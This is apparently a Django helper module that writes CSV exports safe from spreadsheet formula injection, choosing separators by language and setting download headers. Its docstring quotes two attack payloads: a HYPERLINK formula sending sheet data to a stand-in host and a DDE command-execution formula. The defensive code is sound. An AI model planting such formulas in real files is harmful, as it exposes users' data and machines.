"""Spreadsheet exports (CSV): one helper for every export, so that none opens as a formula.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is taken by
Excel, LibreOffice and Google Sheets as a formula: an activity titled
``=HYPERLINK("http://evil.example/?"&A1,"Click")`` would send the sheet's data away when
clicked, and ``=cmd|' /C calc'!A0`` would ask to run a program. Such text cells are written
with a leading apostrophe, which every spreadsheet shows as text and does not display.
Numbers stay numbers.

The separator follows the reader's language, as their spreadsheet expects it: a comma in
English, a semicolon where the comma is the decimal separator (Spanish, French). The file is
UTF-8 with a byte-order mark, so accents open correctly.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

from django.http import HttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: The separator a spreadsheet in this language expects; others: a semicolon.
DELIMITERS = {"en": ","}


def safe_cell(value):
    """The value as a spreadsheet will read it as typed: text that would start a formula
    gets a leading apostrophe (also after leading spaces, which some spreadsheets skip)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) or text.lstrip(" ").startswith(FORMULA_STARTS):
        return "'" + text
    return text


def delimiter(language: str) -> str:
    return DELIMITERS.get((language or "en").split("-")[0], ";")


def csv_bytes(header: Sequence, rows: Iterable[Sequence], *, language: str) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter(language), lineterminator="\r\n")
    writer.writerow([safe_cell(h) for h in header])
    for row in rows:
        writer.writerow([safe_cell(v) for v in row])
    return "\ufeff".encode() + buffer.getvalue().encode()


def csv_response(body: bytes, filename: str) -> HttpResponse:
    return download_response(body, filename, "text/csv; charset=utf-8")


def download_response(body: bytes, filename: str, content_type: str) -> HttpResponse:
    """A file made for the reader (an export, a template): a download, never sniffed or kept."""
    response = HttpResponse(body, content_type=content_type)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response["X-Content-Type-Options"] = "nosniff"
    response["Cache-Control"] = "private, no-store"
    return response
